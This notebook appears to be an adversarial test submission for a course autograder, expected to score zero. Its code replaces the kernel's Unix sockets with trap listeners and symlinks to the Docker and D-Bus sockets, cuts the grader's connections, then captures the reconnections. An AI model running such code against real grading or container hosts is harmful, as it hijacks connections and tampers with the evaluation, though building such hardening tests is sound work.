# ---
# jupyter:
#   corpus:
#     title: other sockets in the place of the kernel's
#     attempts: puts links and sockets of its own where the kernel's sockets were, and ends the connections so that
#       the grader makes new ones
#     points: {1a: 0, 2: 0, 3: 0}
#     flags: [network, files, process]
#     reference: false
# ---

# %% after="imports"
import glob
import os
import socket
import threading
import time

PLACES = ["\0coursekit-attack", "/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/trap", "/run/kernel/trap"]
listening = []


def listen(path):
    trap = socket.socket(socket.AF_UNIX)
    trap.bind(path)
    trap.listen()
    trap.setblocking(False)
    listening.append(trap)


listen("/run/kernel/trap")
for number, path in enumerate(sorted(glob.glob("/run/kernel/kernel-*"))):
    try:
        os.unlink(path)
        if number % 2:
            os.symlink(PLACES[number % len(PLACES)].replace("\0", "@"), path)
        else:
            listen(path)
    except OSError as error:
        print(error)


def end_connections():
    """Of standard input, heartbeat and control: without the others no cell would get its answer."""
    time.sleep(0.5)
    for name in os.listdir("/proc/self/fd"):
        try:
            end = socket.socket(fileno=os.dup(int(name)))
            end.getpeername()  # which a listening socket has not
            if end.family == socket.AF_UNIX and str(end.getsockname()).endswith(("-3", "-4", "-5")):
                end.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass


threading.Thread(target=end_connections).start()

# %% after="vae_model"
time.sleep(2)
for trap in listening:
    try:
        trap.accept()
        print("STOLEN: the grader's connection to", trap.getsockname())
    except OSError:
        pass
